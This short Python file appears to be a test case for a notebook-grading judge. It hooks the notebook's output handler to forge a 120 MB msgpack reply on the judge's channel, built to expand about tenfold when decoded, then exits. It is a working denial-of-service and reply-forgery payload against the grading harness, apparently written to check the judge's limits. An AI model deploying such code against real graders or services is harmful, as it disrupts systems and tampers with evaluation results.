"""
mechanism: a forged reply of 120 MB to the request that runs this cell, all of it numbers that take ten times as much once read
points: any
rest: any
must not: cost the judge its memory or its time (the run is bounded in both)
"""
import os, struct, sys

def bomb():
    nonce = sys._getframe(1).f_locals["nonce"]
    inner = b"\xdc\x40\x00" + b"\xcd\x12\x34" * 16384
    count, start = 2304, b"\xdc\x09\x00"
    size = len(start) + count * len(inner)
    head = b"\x96\xc4\x10" + nonce + b"\xa5value\xc6" + struct.pack(">I", size) + start
    tail = b"\x90\xa0\xc2"
    os.write(3, struct.pack(">I", len(head) + count * len(inner) + len(tail)) + head)
    for part in [inner] * count + [tail]:
        left = memoryview(part)
        while left:
            left = left[os.write(3, left):]
    os._exit(0)

get_ipython().outputs.take_text = bomb
